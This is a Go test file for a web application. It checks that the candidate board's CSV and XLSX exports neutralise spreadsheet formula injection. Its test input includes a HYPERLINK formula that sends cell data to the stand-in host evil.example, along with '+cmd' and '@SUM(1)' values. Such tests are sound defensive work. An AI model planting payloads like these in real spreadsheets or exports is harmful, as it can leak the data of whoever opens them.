package web_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"hocviet/internal/demo"
)

const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Somphone")`

// TestExportsAreFormulaSafe (issue 15 point 7): a name typed as a formula
// leaves the board's CSV export neutralised (a leading quote, as OWASP
// describes), and its XLSX export as a text cell, never a formula.
func TestExportsAreFormulaSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	if _, err := e.store.DB().Exec(`UPDATE candidates SET name_latin = ?, position = '+cmd', unit = '@SUM(1)'
		WHERE id = (SELECT min(id) FROM candidates)`, evilName); err != nil {
		t.Fatal(err)
	}
	c := e.client()
	c.login("houaphanh", demo.Password)

	r := c.get("/board/candidates/export?format=csv")
	if r.status != 200 {
		t.Fatalf("csv export: %d", r.status)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && strings.Trim(cell, "+-0123456789.") != "" {
				t.Errorf("CSV cell %q would run as a formula", cell)
			}
			found = found || cell == "'"+evilName
		}
	}
	if !found {
		t.Errorf("the name is not in the CSV as '%s", evilName)
	}

	r = c.get("/board/candidates/export?format=xlsx")
	if r.status != 200 {
		t.Fatalf("xlsx export: %d", r.status)
	}
	f, err := excelize.OpenReader(bytes.NewReader([]byte(r.body)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("candidates")
	if err != nil {
		t.Fatal(err)
	}
	found = false
	for i, row := range rows {
		for j, v := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula("candidates", cell); fm != "" {
				t.Errorf("XLSX cell %s is a formula: %q", cell, fm)
			}
			if v == evilName {
				found = true
				if ty, _ := f.GetCellType("candidates", cell); ty != excelize.CellTypeSharedString && ty != excelize.CellTypeInlineString {
					t.Errorf("XLSX cell %s holding the name has type %v, want a string", cell, ty)
				}
			}
		}
	}
	if !found {
		t.Error("the name is not in the XLSX as typed")
	}
}
